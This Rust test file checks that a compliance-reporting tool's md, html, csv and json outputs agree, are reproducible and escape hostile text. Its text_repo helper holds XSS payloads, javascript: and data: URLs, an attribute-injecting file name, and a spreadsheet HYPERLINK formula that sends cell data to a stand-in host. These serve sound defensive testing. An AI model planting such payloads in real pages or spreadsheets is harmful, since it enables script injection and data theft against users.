//! `rmm report`: every format tells the same numbers, output is byte-identical run to run,
//! hostile text never escapes its place (cases C25, C26, C28, C29), templates can be overridden.

mod support;

use std::collections::BTreeMap;

use support::{Repo, code, minimal_repo, rmm_in, stderr, stdout};

fn example() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/tidewater-bank")
}

fn report(dir: &std::path::Path, format: &str, extra: &[&str]) -> String {
    let mut args = vec!["report", "--format", format];
    args.extend_from_slice(extra);
    let output = rmm_in(dir, &args);
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    stdout(&output)
}

#[test]
fn every_format_reports_the_same_numbers() {
    support::formats_agree(&example(), 26);
}

#[test]
fn a_second_run_gives_identical_bytes_in_every_format() {
    for format in ["md", "html", "csv", "json"] {
        assert_eq!(
            report(&example(), format, &[]),
            report(&example(), format, &[]),
            "{format}"
        );
    }
}

#[test]
fn source_date_epoch_sets_the_generated_date() {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_rmm"))
        .args(["report", "--format", "md"])
        .current_dir(example())
        .env("SOURCE_DATE_EPOCH", "1767225600")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(stdout(&output).contains("| Generated | 2026-01-01 |"));
    assert!(!report(&example(), "md", &[]).contains("Generated"));
}

#[test]
fn out_dir_writes_every_format_and_never_an_input() {
    let repo = minimal_repo();
    let output = repo.rmm(&[
        "report",
        "--format",
        "md,html,csv,json",
        "--out-dir",
        "reports",
    ]);
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    let mut names: Vec<String> = std::fs::read_dir(repo.join("reports"))
        .map(|d| {
            d.filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    assert_eq!(
        names,
        [
            "report-areas.csv",
            "report-practices.csv",
            "report.html",
            "report.json",
            "report.md"
        ]
    );

    let before = std::fs::read_to_string(repo.join("process-areas/AM.yaml")).unwrap_or_default();
    let output = repo.rmm(&["report", "--format", "md", "--out", "process-areas/AM.yaml"]);
    assert!(
        stderr(&output).contains("rmm read it as input"),
        "{}",
        stderr(&output)
    );
    assert_eq!(code(&output), 2);
    assert_eq!(
        std::fs::read_to_string(repo.join("process-areas/AM.yaml")).unwrap_or_default(),
        before
    );
}

#[test]
fn a_failed_write_keeps_the_previous_report_and_exits_2() {
    let repo = minimal_repo();
    let first = repo.rmm(&["report", "--format", "html", "--out-dir", "reports"]);
    assert_eq!(code(&first), 0);
    let old = std::fs::read(repo.join("reports/report.html")).unwrap_or_default();
    std::fs::create_dir_all(repo.join("reports/report-practices.csv")).unwrap_or_default();
    repo.write("process-areas/AM.yaml", "id: AM\nowner: Someone else\n");
    let output = repo.rmm(&["report", "--format", "html,csv", "--out-dir", "reports"]);
    assert!(
        stderr(&output).contains("report-practices.csv"),
        "{}",
        stderr(&output)
    );
    assert_eq!(code(&output), 2);
    assert_eq!(
        std::fs::read(repo.join("reports/report.html")).unwrap_or_default(),
        old
    );
    let leftovers = std::fs::read_dir(repo.join("reports"))
        .map(|d| {
            d.filter_map(Result::ok)
                .filter(|e| e.file_name().to_string_lossy().ends_with(".rmm-tmp"))
                .count()
        })
        .unwrap_or_default();
    assert_eq!(leftovers, 0);
}

#[test]
fn a_template_override_replaces_the_built_in_one() {
    let repo = minimal_repo();
    repo.write(
        "brand/summary.md.j2",
        "Acme Consulting: {{ organization }} at {{ summary.performed_percent | percent }}\n",
    );
    let output = repo.rmm(&[
        "report",
        "--format",
        "md",
        "--summary",
        "--templates",
        "brand",
    ]);
    assert_eq!(stdout(&output), "Acme Consulting: Scratch at 100.0 %\n");
}

#[test]
fn a_broken_template_names_itself_and_its_line() {
    let repo = minimal_repo();
    repo.write(
        "brand/report.md.j2",
        "# Report\n\n{% for area in process_areas %}\n{{ area.id }\n",
    );
    let output = repo.rmm(&["report", "--format", "md", "--templates", "brand"]);
    let text = stderr(&output);
    assert!(
        text.starts_with("rmm: error: template report.md.j2:4: syntax error"),
        "{text}"
    );
    assert_eq!(code(&output), 2);
}

/// A repository whose every text field is hostile, or its harmless twin.
fn text_repo(hostile: bool) -> Repo {
    let repo = minimal_repo();
    let pick = |bad: &str, good: &str| {
        if hostile {
            bad.to_string()
        } else {
            good.to_string()
        }
    };
    let long = "x".repeat(3000);
    let toml = format!(
        "[organization]\nname = {}\n[severity]\nprocess-area-undeclared = \"allow\"\nevidence-url-scheme = \"allow\"\n",
        toml_string(&pick(
            "<b>Evil & Co \"quoted\" 'single'</b>",
            "Plain and Co quoted single"
        ))
    );
    repo.write("rmm.toml", &toml);
    repo.write(
        "process-areas/AM.yaml",
        &format!(
            "id: AM\nowner: {}\n",
            yaml_string(&pick("@helpdesk", "helpdesk"))
        ),
    );
    let evidence_file = pick(
        "artifacts/a\" onmouseover=\"alert(3).md",
        "artifacts/plain-file-name.md",
    );
    repo.write(&evidence_file, "evidence\n");
    repo.write(
        "evidence/EV-1.yaml",
        &format!(
            "id: EV-1\ntitle: {}\nfile: {}\ncollected: 2026-01-10\n",
            yaml_string(&pick(
                "<img src=x onerror=alert(1)>",
                "an image tag title text"
            )),
            yaml_string(&evidence_file)
        ),
    );
    let urls = [
        ("EV-2", pick("javascript:alert(4)", "ftp://plain.example/a")),
        (
            "EV-3",
            pick("JaVaScRiPt&#58;alert(5)", "ftp://plain.example/b"),
        ),
        (
            "EV-4",
            pick(
                "data:text/html,<script>alert(6)</script>",
                "ftp://plain.example/c",
            ),
        ),
        (
            "EV-5",
            "https://intranet.example/policy?a=1&b=2".to_string(),
        ),
    ];
    for (id, url) in &urls {
        repo.write(
            &format!("evidence/{id}.yaml"),
            &format!(
                "id: {id}\ntitle: Link {id}\nurl: {}\ncollected: 2026-01-10\n",
                yaml_string(url)
            ),
        );
    }
    repo.write("controls/CTL-1.yaml", &format!(
        "id: CTL-1\ntitle: {}\nowner: O\npractices: [AM:SG1.SP1]\nevidence: [EV-1, EV-2, EV-3, EV-4, EV-5]\n",
        yaml_string(&pick("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"details\")", "a hyperlink formula title"))
    ));
    let note = pick(
        &format!(
            "</script><script>alert(2)</script> | pipe\n+1 approved\nsecond line, with a comma and \"quotes\" مرحبا 🔥 {long}"
        ),
        &format!(
            "plain note text pipe\nplain approved\nsecond line with a comma and quotes plain text {long}"
        ),
    );
    let sheet =
        std::fs::read_to_string(repo.join("assessments/2026-q1/AM.yaml")).unwrap_or_default();
    repo.write(
        "assessments/2026-q1/AM.yaml",
        &sheet.replace(
            "  AM:SG1.SP1: {status: performed, evidence: [EV-1]}\n",
            &format!(
                "  AM:SG1.SP1:\n    status: performed\n    controls: [CTL-1]\n    note: {}\n",
                yaml_string(&note)
            ),
        ),
    );
    repo
}

fn yaml_string(text: &str) -> String {
    serde_json::to_string(text).unwrap_or_default()
}

fn toml_string(text: &str) -> String {
    serde_json::to_string(text).unwrap_or_default()
}

fn shape(html: &str) -> (BTreeMap<String, usize>, usize) {
    let document = scraper::Html::parse_document(html);
    let mut elements = BTreeMap::new();
    let mut attributes = 0;
    for node in document.tree.nodes() {
        if let Some(element) = node.value().as_element() {
            *elements.entry(element.name().to_string()).or_insert(0) += 1;
            attributes += element.attrs().count();
        }
    }
    (elements, attributes)
}

#[test]
fn hostile_text_never_changes_the_html_structure() {
    let hostile = text_repo(true);
    let twin = text_repo(false);
    let hostile_html = report(hostile.path(), "html", &[]);
    let twin_html = report(twin.path(), "html", &[]);
    assert_eq!(shape(&hostile_html), shape(&twin_html));

    let document = scraper::Html::parse_document(&hostile_html);
    for node in document.tree.nodes() {
        let Some(element) = node.value().as_element() else {
            continue;
        };
        assert_ne!(element.name(), "script");
        for (name, value) in element.attrs() {
            assert!(!name.starts_with("on"), "{name}={value}");
            if name == "href" {
                let lower = value.to_ascii_lowercase();
                assert!(
                    lower.starts_with("https://")
                        || lower.starts_with("http://")
                        || lower.starts_with("mailto:"),
                    "{value}"
                );
            }
        }
    }
    let links = scraper::Selector::parse("a[href]").unwrap_or_else(|e| panic!("{e}"));
    let hrefs: Vec<&str> = document
        .select(&links)
        .filter_map(|a| a.value().attr("href"))
        .collect();
    assert_eq!(hrefs, ["https://intranet.example/policy?a=1&b=2"]);
    assert!(hostile_html.contains("a=1&amp;b=2"));
    assert!(hostile_html.contains("&lt;img src=x onerror=alert(1)&gt;"));
}

#[test]
fn hostile_text_stays_in_its_markdown_cell() {
    let hostile = text_repo(true);
    let markdown = report(hostile.path(), "md", &[]);
    let row = markdown
        .lines()
        .find(|l| l.starts_with("| AM:SG1.SP1 |"))
        .unwrap_or_default();
    assert!(row.contains("\\| pipe +1 approved second line"), "{row}");
    // The row has exactly the table's 6 cells: 7 unescaped pipes.
    let unescaped = row.replace("\\|", "").matches('|').count();
    assert_eq!(unescaped, 7, "{row}");
}

#[test]
fn csv_cells_are_quoted_and_formulas_neutralised() {
    let hostile = text_repo(true);
    let csv_text = report(hostile.path(), "csv", &[]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let row = reader
        .records()
        .filter_map(Result::ok)
        .find(|r| &r[4] == "AM:SG1.SP1")
        .unwrap_or_default();
    assert!(row[10].starts_with("</script><script>alert(2)</script> | pipe\n+1 approved\nsecond line, with a comma and \"quotes\" مرحبا 🔥"));
    assert_eq!(&row[8], "CTL-1");
    let areas = report(hostile.path(), "csv", &["--csv-table", "areas"]);
    let mut reader = csv::Reader::from_reader(areas.as_bytes());
    let am = reader
        .records()
        .filter_map(Result::ok)
        .find(|r| &r[1] == "AM")
        .unwrap_or_default();
    assert_eq!(&am[4], "'@helpdesk");
    assert_eq!(&am[11], "100.0");
}

#[test]
fn json_keeps_the_raw_text() {
    let hostile = text_repo(true);
    let json: serde_json::Value = serde_json::from_str(&report(hostile.path(), "json", &[]))
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(json["organization"], "<b>Evil & Co \"quoted\" 'single'</b>");
    let owner = json["process_areas"]
        .as_array()
        .and_then(|a| a.iter().find(|x| x["id"] == "AM"))
        .map(|a| a["owner"].clone());
    assert_eq!(owner, Some(serde_json::Value::from("@helpdesk")));
}

#[test]
fn docs_report_json_names_every_field_of_the_report() {
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/report-json.md"))
        .unwrap_or_default();
    let json: serde_json::Value =
        serde_json::from_str(&report(&example(), "json", &[])).unwrap_or_else(|e| panic!("{e}"));
    let mut keys = std::collections::BTreeSet::new();
    collect_keys(&json, &mut keys);
    let missing: Vec<&String> = keys
        .iter()
        .filter(|key| !doc.contains(&format!("`{key}`")))
        .collect();
    assert!(
        missing.is_empty(),
        "docs/report-json.md does not describe {missing:?}"
    );
}

fn collect_keys(value: &serde_json::Value, keys: &mut std::collections::BTreeSet<String>) {
    match value {
        serde_json::Value::Object(map) => {
            for (key, inner) in map {
                keys.insert(key.clone());
                collect_keys(inner, keys);
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|item| collect_keys(item, keys)),
        _ => {}
    }
}

#[test]
fn options_that_do_not_apply_to_the_format_are_refused() {
    let repo = minimal_repo();
    let output = repo.rmm(&["report", "--format", "html", "--summary"]);
    assert!(
        stderr(&output).contains("--summary applies to --format md only"),
        "{}",
        stderr(&output)
    );
    assert_eq!(code(&output), 2);
    let output = repo.rmm(&["report", "--format", "json", "--csv-table", "areas"]);
    assert_eq!(code(&output), 2);
    // A repeated format is written once.
    assert_eq!(
        code(&repo.rmm(&["report", "--format", "md,html,md", "--out-dir", "out"])),
        0
    );
}
